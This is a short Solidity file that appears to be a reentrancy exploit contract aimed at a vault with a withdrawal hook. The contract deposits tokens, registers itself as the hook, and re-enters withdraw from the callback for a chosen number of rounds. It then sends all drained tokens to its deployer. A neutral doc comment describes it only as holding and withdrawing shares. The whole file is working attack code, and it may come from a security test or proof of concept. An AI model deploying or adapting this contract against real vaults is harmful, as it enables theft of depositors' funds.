// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

interface IVault {
    function deposit(uint256 assets) external returns (uint256);
    function withdraw(uint256 shares) external returns (uint256);
    function setHook(address hook) external;
    function sharesOf(address account) external view returns (uint256);
    function totalAssets() external view returns (uint256);
    function totalShares() external view returns (uint256);
}

interface IERC20R {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

interface IERC20From {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Holds vault shares and withdraws them again from its own withdrawal hook.
contract ReentrantHolder {
    IVault private immutable vault;
    IERC20R private immutable asset;
    address private immutable owner;
    uint256 private rounds;

    constructor(IVault vault_, IERC20R asset_) {
        vault = vault_;
        asset = asset_;
        owner = msg.sender;
    }

    function run(uint256 amount, uint256 maxRounds) external {
        require(IERC20From(address(asset)).transferFrom(msg.sender, address(this), amount), "pull");
        asset.approve(address(vault), type(uint256).max);
        vault.deposit(asset.balanceOf(address(this)));
        vault.setHook(address(this));
        rounds = maxRounds;
        vault.withdraw(vault.sharesOf(address(this)));
        asset.transfer(owner, asset.balanceOf(address(this)));
    }

    function onVaultWithdraw(address, uint256 shares, uint256) external {
        if (rounds == 0) return;
        rounds -= 1;
        vault.withdraw(shares);
    }
}
